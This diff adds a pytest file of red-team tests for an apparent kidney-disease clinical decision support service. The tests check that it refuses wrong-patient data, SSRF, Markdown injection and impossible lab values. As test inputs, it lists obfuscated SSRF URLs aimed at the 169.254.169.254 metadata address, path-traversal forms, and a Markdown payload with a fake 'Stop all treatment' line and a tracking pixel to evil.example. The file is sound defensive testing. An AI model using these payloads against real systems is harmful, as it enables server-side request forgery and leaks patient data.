@@ -1,0 +1,360 @@
+"""Red-team cases of issue #13, as an attacker or a buggy EHR would send them; each failed on the code before it.
+
+1. wrong-patient data (prefetch and FHIR fallback), 4. SSRF through fhirServer and `next` links, 5. Markdown
+injection through FHIR text, 6. physiologically impossible values. No test here ever reaches a host other than this
+machine: the `no_outbound` guard refuses (and records) any connection or name lookup for another address.
+"""
+
+from __future__ import annotations
+
+import copy
+import ipaddress
+import socket
+from collections.abc import Iterator
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+
+from service.demo import demo_bundles
+from service.fhir.loader import load_bundle
+from service.fhir.testserver import RunningServer
+from service.web.acquire import subject_problem, under_base
+from service.web.urls import UnsafeUrl, parse_fhir_url
+from tests.conftest import make_app
+from tests.reliability.cannedfhir import CannedFhir
+from tests.web.test_hooks import URL, call, prefetch_for, resources
+
+LEFT_OUT = "some results were left out because they did not name this patient"
+
+
+@pytest.fixture
+def no_outbound(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
+    """Refuse, and record, any connection or DNS lookup that would leave this machine."""
+    attempts: list[str] = []
+    real_connect, real_getaddrinfo = socket.socket.connect, socket.getaddrinfo
+
+    def loopback(host: str) -> bool:
+        try:
+            return ipaddress.ip_address(host.split("%")[0]).is_loopback
+        except ValueError:
+            return host == "localhost"
+
+    def connect(self: socket.socket, address: Any) -> None:
+        if isinstance(address, tuple) and not loopback(str(address[0])):
+            attempts.append(str(address[0]))
+            raise OSError("outbound connection refused by the test guard")
+        return real_connect(self, address)
+
+    def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
+        if host is not None and not loopback(str(host)):
+            attempts.append(str(host))
+            raise socket.gaierror("name lookup refused by the test guard")
+        return real_getaddrinfo(host, *args, **kwargs)
+
+    monkeypatch.setattr(socket.socket, "connect", connect)
+    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
+    yield attempts
+
+
+@pytest.fixture
+def bundles() -> dict[str, dict[str, Any]]:
+    return demo_bundles(date.today())
+
+
+def pid(bundle: dict[str, Any]) -> str:
+    return str(resources(bundle)[0]["id"])
+
+
+def last_audit(app: Flask) -> dict[str, Any]:
+    record: dict[str, Any] = app.extensions["ckd_cds"].store.audit_records(1)[0]
+    return record
+
+
+def strip_subjects(prefetch: dict[str, Any]) -> dict[str, Any]:
+    out = copy.deepcopy(prefetch)
+    for key, value in out.items():
+        if key != "patient":
+            for entry in value["entry"]:
+                entry["resource"].pop("subject", None)
+    return out
+
+
+# --- 1. wrong-patient data -------------------------------------------------------------------------------------
+
+
+def test_another_patients_prefetch_is_refused_not_shown(
+    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
+) -> None:
+    # Chart A open; the prefetch holds patient B's Patient and B's labs with `subject` removed. Before: 200 with B's
+    # stage, KFRE and age in A's chart.
+    a, b = bundles["03-g3a-a2-not-coded"], bundles["12-progression-high-kfre"]
+    response = client.post(URL, json=call(pid(a), prefetch=strip_subjects(prefetch_for(b))))
+    assert response.status_code == 412
+    assert response.json["resourceType"] == "OperationOutcome"
+    assert "patient-mismatch" in response.get_data(as_text=True)
+    audit = last_audit(app)
+    assert audit["precondition"] == "patient-mismatch"
+    assert audit["keys"]["patient"]["state"] == "wrong-patient"
+
+
+def test_resources_that_do_not_name_the_patient_are_left_out_and_counted(
+    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
+) -> None:
+    bundle = bundles["03-g3a-a2-not-coded"]
+    clean = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle))).json
+    prefetch = prefetch_for(bundle)
+    # creatinine 9.0 mg/dL today would make this patient G5: four versions that must never be used
+    poison = resources(bundles["05-g4-on-metformin"])[1]
+    variants = [
+        {},  # no subject at all
+        {"subject": {"identifier": {"system": "urn:mrn", "value": "123"}}},  # an identifier only
+        {"subject": {"reference": "Patient/someone-else"}},
+        {"subject": {"reference": f"https://other.example/fhir/Patient/{pid(bundle)}"}},  # another server
+    ]
+    for i, extra in enumerate(variants):
+        r = {k: v for k, v in copy.deepcopy(poison).items() if k != "subject"} | extra
+        r["id"], r["valueQuantity"]["value"], r["effectiveDateTime"] = f"poison-{i}", 9.0, date.today().isoformat()
+        prefetch["kidneyLabs"]["entry"].append({"resource": r, "search": {"mode": "match"}})
+    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch))
+    assert response.status_code == 200
+    cards = response.json["cards"]
+    assert [c["summary"] for c in cards] == [c["summary"] for c in clean["cards"]]  # built on own data only
+    assert all(LEFT_OUT in c["detail"] for c in cards)  # and they say data were left out
+    assert last_audit(app)["rejected_resources"] == {"no_subject": 2, "other_patient": 1, "unresolved_subject": 1}
+    page = client.get("/metrics").get_data(as_text=True)
+    assert 'ckd_cds_resources_rejected_total{reason="no_subject"}' in page
+
+
+def test_absolute_reference_under_fhir_server_is_this_patient(
+    client: FlaskClient, bundles: dict[str, dict[str, Any]], no_outbound: list[str]
+) -> None:
+    bundle = bundles["03-g3a-a2-not-coded"]
+    base = "http://127.0.0.1:9/fhir"  # nothing is fetched: the prefetch is complete
+    relative = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle), fhirServer=base)).json
+    absolute = prefetch_for(bundle)
+    for key, value in absolute.items():
+        if key != "patient":
+            for entry in value["entry"]:
+                entry["resource"]["subject"]["reference"] = f"{base}/Patient/{pid(bundle)}"
+    response = client.post(URL, json=call(pid(bundle), prefetch=absolute, fhirServer=base))
+    assert response.json == relative
+    assert no_outbound == []
+
+
+@pytest.mark.parametrize(
+    ("reference", "problem"),
+    [
+        ("Patient/p1", None),
+        ("Patient/p1/_history/3", None),
+        ("http://ehr.example/fhir/Patient/p1", None),
+        ("Patient/p2", "other_patient"),
+        ("http://ehr.example/fhir/Patient/p2", "other_patient"),
+        ("http://other.example/fhir/Patient/p1", "unresolved_subject"),
+        ("http://ehr.example/fhir-other/Patient/p1", "unresolved_subject"),
+        ("http://ehr.example/fhir/../fhir/Patient/p1", "unresolved_subject"),
+        ("Group/p1", "unresolved_subject"),
+        ("urn:uuid:p1", "unresolved_subject"),
+        ("#p1", "unresolved_subject"),
+        ("", "no_subject"),
+    ],
+)
+def test_subject_resolution(reference: str, problem: str | None) -> None:
+    base = parse_fhir_url("http://ehr.example/fhir")
+    assert subject_problem({"subject": {"reference": reference}}, "p1", base) == problem
+
+
+def test_fallback_data_not_naming_the_patient_is_not_used(
+    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
+) -> None:
+    # A misbehaving FHIR server answers the searches with another patient's labs without `subject`.
+    a, b = bundles["01-normal"], bundles["12-progression-high-kfre"]
+    foreign = [{k: v for k, v in r.items() if k != "subject"} for r in resources(b)[1:]]
+    server = CannedFhir(patient=resources(a)[0], resources=foreign)
+    try:
+        response = client.post(URL, json=call(pid(a), fhirServer=server.base, fhirAuthorization={
+            "access_token": "t", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read",
+            "subject": "x"}))  # fmt: skip
+    finally:
+        server.stop()
+    assert response.status_code == 200
+    assert response.json == {"cards": []}  # nothing of B's shows in A's chart (before: B's G5 and KFRE)
+    assert last_audit(app)["rejected_resources"]["no_subject"] >= len(foreign)  # every search returned them
+
+
+def test_fallback_patient_of_another_id_is_refused(
+    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
+) -> None:
+    a, b = bundles["01-normal"], bundles["12-progression-high-kfre"]
+    server = CannedFhir(patient=resources(b)[0], resources=resources(b)[1:])
+    try:
+        response = client.post(URL, json=call(pid(a), fhirServer=server.base, fhirAuthorization={
+            "access_token": "t", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read",
+            "subject": "x"}))  # fmt: skip
+    finally:
+        server.stop()
+    assert response.status_code == 412
+    assert last_audit(app)["precondition"] == "patient-mismatch"
+
+
+@pytest.mark.fhir
+def test_wrong_prefetched_patient_is_read_again_from_the_fhir_server(
+    client: FlaskClient, fhir_server: RunningServer, bundles: dict[str, dict[str, Any]]
+) -> None:
+    bundle, other = bundles["03-g3a-a2-not-coded"], bundles["12-progression-high-kfre"]
+    load_bundle(fhir_server.base_url, fhir_server.token, bundle)
+    clean = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle))).json
+    prefetch = prefetch_for(bundle) | {"patient": resources(other)[0]}
+    auth = {"access_token": fhir_server.token, "token_type": "Bearer", "expires_in": 300,
+            "scope": "patient/*.read", "subject": "Practitioner/1"}  # fmt: skip
+    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch, fhirServer=fhir_server.base_url,
+                                          fhirAuthorization=auth))  # fmt: skip
+    assert response.status_code == 200
+    assert response.json == clean
+
+
+# --- 4. SSRF ------------------------------------------------------------------------------------------------------
+
+TOKEN_AUTH = {"access_token": "SECRET-TOKEN", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read",
+              "subject": "x"}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("server", "status"),
+    [
+        ("http://169.254.169.254/", 412),  # canonical, but neither loopback nor configured (development default)
+        ("http://2852039166/", 400),  # decimal form of 169.254.169.254
+        ("http://0xa9fea9fe/", 400),  # hex
+        ("http://0xa9.0xfe.0xa9.0xfe/", 400),
+        ("http://0251.0376.0251.0376/", 400),  # octal
+        ("http://169.254.43518/", 400),  # short form
+        ("http://[::ffff:169.254.169.254]/", 412),  # IPv4-mapped IPv6: judged as 169.254.169.254
+        ("http://[::ffff:a9fe:a9fe]/", 412),
+        ("http://allowed.example@169.254.169.254/", 400),  # userinfo
+        ("http://127.0.0.1:9/fhir/../../secret", 400),  # dot segments
+        ("http://127.0.0.1:9/fhir/%2e%2e/secret", 400),
+    ],
+)
+def test_fhir_server_ssrf_forms_are_never_contacted(
+    app: Flask, client: FlaskClient, no_outbound: list[str], server: str, status: int
+) -> None:
+    response = client.post(URL, json=call("p1", fhirServer=server, fhirAuthorization=TOKEN_AUTH))
+    assert response.status_code == status
+    assert response.json["resourceType"] == "OperationOutcome"
+    assert no_outbound == []  # no connection, no name lookup
+    if status == 412:
+        assert last_audit(app)["precondition"] == "fhir-server-not-allowed"
+
+
+def test_allowlist_is_matched_on_parsed_parts_not_as_a_prefix(tmp_path: Path, no_outbound: list[str]) -> None:
+    app = make_app(tmp_path, fhir_server_allowlist=("http://127.0.0.1:9/fhir",))
+    client = app.test_client()
+    for server in ("http://127.0.0.1:9/fhir-evil", "http://127.0.0.1:99/fhir", "https://127.0.0.1:9/fhir"):
+        response = client.post(URL, json=call("p1", fhirServer=server, fhirAuthorization=TOKEN_AUTH))
+        assert response.status_code == 412
+        assert last_audit(app)["precondition"] == "fhir-server-not-allowed"
+    assert no_outbound == []
+
+
+def test_audit_never_keeps_userinfo_or_query(app: Flask, client: FlaskClient, no_outbound: list[str]) -> None:
+    client.post(URL, json=call("p1", fhirServer="http://LocalHost:80/fhir/", fhirAuthorization=TOKEN_AUTH))
+    assert last_audit(app)["fhir_server"] == "http://localhost/fhir"
+
+
+@pytest.mark.parametrize(
+    ("link", "followed"),
+    [
+        ("http://ehr.example/fhir/Observation?page=2", True),
+        ("http://EHR.example:80/fhir/Observation?page=2", True),
+        ("http://ehr.example/fhir/../../secret", False),
+        ("http://ehr.example/fhir/%2e%2e/secret", False),
+        ("http://ehr.example/fhir-other/Observation", False),
+        ("http://user@ehr.example/fhir/Observation", False),
+        ("https://ehr.example/fhir/Observation", False),
+        ("http://0x7f000001/fhir/Observation", False),
+    ],
+)
+def test_next_links_only_under_the_base(link: str, followed: bool) -> None:
+    assert under_base(link, "http://ehr.example/fhir") is followed
+
+
+@pytest.mark.parametrize("patient_id", ["..", ".", "a/../b", "a?b", "x" * 65])
+def test_patient_id_must_be_a_fhir_id(client: FlaskClient, patient_id: str) -> None:
+    # Patient/{{context.patientId}} must never reach the server root or another path
+    response = client.post(URL, json=call(patient_id))
+    assert response.status_code == 400
+    assert "patientId" in response.json["issue"][0]["diagnostics"]
+
+
+@pytest.mark.parametrize(
+    ("url", "base"),
+    [
+        ("HTTPS://EHR.Example:443/fhir/", "https://ehr.example/fhir"),
+        ("http://[::1]:8080/fhir", "http://[::1]:8080/fhir"),
+        ("http://[::ffff:127.0.0.1]/", "http://127.0.0.1"),
+        ("http://localhost./r4", "http://localhost/r4"),
+    ],
+)
+def test_urls_are_normalised(url: str, base: str) -> None:
+    assert parse_fhir_url(url).base == base
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "ftp://ehr.example/",
+        "http://[fe80::1%25eth0]/",
+        "http:///fhir",
+        "http://a b/",
+        "http://ehr.example/fhir?x=1",
+        "http://ehr.example/fhir#f",
+        "http://ex_ample/",
+    ],
+)
+def test_unusable_urls_are_refused(url: str) -> None:
+    with pytest.raises(UnsafeUrl):
+        parse_fhir_url(url)
+
+
+# --- 5. Markdown injection -------------------------------------------------------------------------------------
+
+
+def test_fhir_text_never_reaches_card_markdown(client: FlaskClient, bundles: dict[str, dict[str, Any]]) -> None:
+    bundle = copy.deepcopy(bundles["06-nsaid-egfr-below-60"])
+    evil = ("Naproxen 220 MG\n# Stop all treatment\n[call us](https://evil.example/x) "
+            f"![](https://evil.example/pixel.png?patient={pid(bundle)})")  # fmt: skip
+    for r in resources(bundle):
+        if r["resourceType"] == "MedicationRequest" and "aproxen" in r["medicationCodeableConcept"]["text"]:
+            r["medicationCodeableConcept"] = {"text": evil, "coding": [{"display": evil}]}
+    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle)))
+    cards = response.json["cards"]
+    assert any(c["extension"]["org.ckd-cds.rule"]["id"] == "nsaid_avoid" for c in cards)  # still recognised
+    text = "\n".join(f"{c['summary']}\n{c['detail']}" for c in cards)
+    assert "evil.example" not in text
+    assert "![" not in text
+    assert "](" not in text  # no link in a card's Markdown at all: links are the card's own `links`
+    assert "Stop all treatment" not in text
+
+
+# --- 6. implausible values -------------------------------------------------------------------------------------
+
+
+def test_impossible_creatinine_and_birth_date_stage_nobody(
+    client: FlaskClient, bundles: dict[str, dict[str, Any]]
+) -> None:
+    bundle = copy.deepcopy(bundles["01-normal"])
+    for r in resources(bundle):
+        if r["resourceType"] == "Observation" and r["code"]["coding"][0]["code"] == "2160-0":
+            r["valueQuantity"]["value"] = 1e-300  # gave eGFR 3×10^92 and a G1 card
+    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle)))
+    assert response.json == {"cards": []}
+    old = copy.deepcopy(bundles["03-g3a-a2-not-coded"])
+    resources(old)[0]["birthDate"] = "0001-01-01"  # gave "eGFR 0.0" cards
+    cards = client.post(URL, json=call(pid(old), prefetch=prefetch_for(old))).json["cards"]
+    text = "\n".join(f"{c['summary']}\n{c['detail']}" for c in cards)
+    assert "eGFR 0" not in text
+    assert "CKD-EPI" not in text  # no eGFR at all without a plausible age; persistent A2 still counts (S12)
+    assert "CKD G?/A2" in text
